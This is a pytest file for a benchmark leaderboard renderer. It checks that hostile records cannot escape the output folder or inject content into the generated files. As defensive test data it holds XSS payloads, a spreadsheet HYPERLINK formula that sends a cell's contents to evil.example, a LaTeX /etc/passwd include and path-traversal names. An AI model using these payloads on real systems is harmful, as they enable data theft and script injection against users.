"""Hostile records: they may not write outside the output folder nor inject markup or formulas.

The records are built in memory (bypassing :func:`qpebench.records.load_record`), so these tests
hold even for a record that slips past validation.
"""

from __future__ import annotations

import csv
import io
import os
import sys
from pathlib import Path

import pytest

from qpebench.errors import ConfigError
from qpebench.leaderboard.aggregate import group_records
from qpebench.leaderboard.formats import csv_cell, markdown, md_escape
from qpebench.leaderboard.render import render
from qpebench.records import RecordError

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def _tree(root: Path) -> dict[str, tuple[int, bytes]]:
    """Every path under ``root`` with its mode and (for files) contents."""
    out = {}
    for path in sorted(root.rglob("*")):
        data = path.read_bytes() if path.is_file() and not path.is_symlink() else b""
        out[str(path.relative_to(root))] = (path.lstat().st_mode, data)
    return out


def _planted(tmp_path: Path) -> Path:
    """Files a hostile split name would overwrite; returns the output folder ``deep/out``."""
    for name in ("x.md", "index.html", "abs.md", "deep/index.md"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("precious\n")
    return tmp_path / "deep" / "out"


def _hostile_split_names(tmp_path: Path) -> list[str]:
    return ["../../x", "../index", "../../index.html#", str(tmp_path / "abs"), SCRIPT, "..", ""]


@pytest.mark.parametrize("which", range(7))
def test_a_hostile_split_name_writes_nothing_anywhere(make_record, tmp_path, which):
    out = _planted(tmp_path)
    name = _hostile_split_names(tmp_path)[which]
    records = [make_record("static_cnn", seed) for seed in range(2)]
    for record in records:
        record["split"]["name"] = name
    before = _tree(tmp_path)
    with pytest.raises(RecordError, match="split name") as caught:
        render(records, out)
    assert "\n" not in str(caught.value)
    assert _tree(tmp_path) == before  # not even the output folder was created


@pytest.mark.parametrize("name", ["../../x", "ABSOLUTE"])
def test_output_paths_are_confined_even_past_the_name_check(
    make_record, tmp_path, monkeypatch, name
):
    """The last guard: should a bad stem get past the name check, no file leaves ``out``."""
    out = _planted(tmp_path)
    if name == "ABSOLUTE":
        name = str(tmp_path / "abs")
    module = sys.modules[render.__module__]  # the package exports the function as ``render``
    monkeypatch.setattr(module, "check_name", lambda value, what, *, error: value)
    records = [make_record("static_cnn", 0, split=name)]
    before = {k: v for k, v in _tree(tmp_path).items() if not k.startswith("deep/out")}
    with pytest.raises(ConfigError, match="outside its folder"):
        render(records, out, formats=("md",))
    after = {k: v for k, v in _tree(tmp_path).items() if not k.startswith("deep/out")}
    assert after == before


def test_a_symlinked_output_file_is_not_followed_out_of_the_folder(make_record, tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    target = tmp_path / "elsewhere.md"
    target.write_text("precious\n")
    os.symlink(target, out / "europe_to_all.md")
    with pytest.raises(ConfigError, match="outside its folder"):
        render([make_record()], out, formats=("md",))
    assert target.read_text() == "precious\n"


def _hostile_records(make_record) -> list[dict]:
    records = []
    for seed in range(2):
        for model in (f"evil|{IMG}", "static_cnn", FORMULA, "\\input{/etc/passwd}"):
            record = make_record(model, seed)
            record["split"]["description"] = f"{FORMULA}\n# injected heading {SCRIPT}"
            record["dataset"].update(adapter=f"`{SCRIPT}", version=f"v|{IMG}")
            record["n_samples"][f"ood_test/{IMG}|x"] = 5
            strata = record["strata"]["id_test"]
            strata[f"season|{IMG}"] = {
                value: {"csi@1": 0.5, "n_samples": 10}
                for value in (FORMULA, "-0.08", "+cmd", "@SUM(A1)", "\tx", f"a|b{SCRIPT}")
            }
            records.append(record)
    return records


def _cells(line: str) -> int:
    """The number of unescaped ``|`` in a Markdown table row (a backslash escapes a character)."""
    count, chars = 0, iter(line)
    for char in chars:
        if char == "\\":
            next(chars, None)
        elif char == "|":
            count += 1
    return count


def _tables(text: str) -> list[list[str]]:
    blocks: list[list[str]] = []
    previous = False
    for line in text.splitlines():
        row = line.startswith("|")
        if row and not previous:
            blocks.append([])
        if row:
            blocks[-1].append(line)
        previous = row
    return blocks


def test_markdown_escapes_every_record_text(make_record, tmp_path):
    written = render(_hostile_records(make_record), tmp_path / "out", title=f"{SCRIPT} | {IMG}")
    text = written["md"].read_text()
    assert "<script" not in text and "<img" not in text
    assert "\n# injected" not in text  # the description's line break is gone
    assert "&lt;script>" in text and "evil\\|&lt;img" in text  # shown, not dropped
    tables = _tables(text)
    assert len(tables) >= 4
    for table in tables:
        widths = {_cells(row) for row in table}
        assert len(widths) == 1, table


@pytest.mark.parametrize(
    "evaluation", ["x", 5, {"ci_metrics": 5}, {"ci_metrics": True}, {"ci_metrics": "csi@1"}]
)
def test_a_malformed_evaluation_block_adds_no_detail_column(make_record, evaluation):
    plain, odd = make_record("static_cnn", 0), make_record("static_cnn", 1)
    odd["config"] = {"evaluation": evaluation}
    assert markdown(group_records([plain, odd]), None).count("| model | test_set |") == 1


def test_metric_names_from_records_are_escaped_as_column_headers(make_record):
    record = make_record("static_cnn", 0)
    record["metrics"]["id_test"][SCRIPT] = 0.5
    record["config"] = {"evaluation": {"ci_metrics": [SCRIPT, 7]}}
    text = markdown(group_records([record]), None)
    assert "<script" not in text and "&lt;script>" in text


def test_markdown_headings_from_split_names_are_escaped(make_record):
    records = [make_record(split=f"{SCRIPT}|{IMG}"), make_record(split="plain", train="conus")]
    for board_records in (records[:1], records):  # one split: the title; several: ## headings
        text = markdown(group_records(board_records))
        assert "<script" not in text and "<img" not in text
        assert f"{md_escape(SCRIPT)}\\|{md_escape(IMG)}" in text


def test_csv_cells_never_start_a_formula(make_record, tmp_path):
    written = render(_hostile_records(make_record), tmp_path / "out")
    rows = list(csv.reader(io.StringIO(written["csv"].read_text())))
    cells = [cell for row in rows[1:] for cell in row]
    for cell in cells:
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
            float(cell)  # a number such as -0.08, never a formula
    assert "'" + FORMULA in cells and "'+cmd" in cells and "'\tx" in cells
    assert "-0.08" in cells  # a numeric stratum value stays a number
    assert any(cell.startswith("-") for row in rows[1:] for cell in row[7:])  # negative means


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+2", "'=1+2"),
        ("-x", "'-x"),
        ("@A1", "'@A1"),
        ("\rx", "'\rx"),
        ("-0.08", "-0.08"),
        ("+3", "+3"),
        ("plain", "plain"),
        ("", ""),
        (3, 3),
    ],
)
def test_csv_cell(value, expected):
    assert csv_cell(value) == expected


def test_latex_and_html_escape_the_same_records(make_record, tmp_path):
    written = render(_hostile_records(make_record), tmp_path / "out", formats=("tex", "html"))
    tex = written["tex"].read_text()
    assert "\\input{" not in tex and "<img" not in tex
    page = written["html"].read_text()
    assert "<script" not in page and "<img src=x" not in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_md_escape():
    assert md_escape("a|b") == "a\\|b"
    assert md_escape("a\\|b") == "a\\\\\\|b"
    assert md_escape("<b>&</b>") == "&lt;b>&amp;&lt;/b>"
    assert md_escape(">=270 K") == ">=270 K"
    assert md_escape("![x](https://evil.example/t.png) [0.5, 0.6]") == (
        "![x]\\(https://evil.example/t.png) [0.5, 0.6]"
    )
    assert md_escape("one\r\ntwo\nthree\x07") == "one two three"
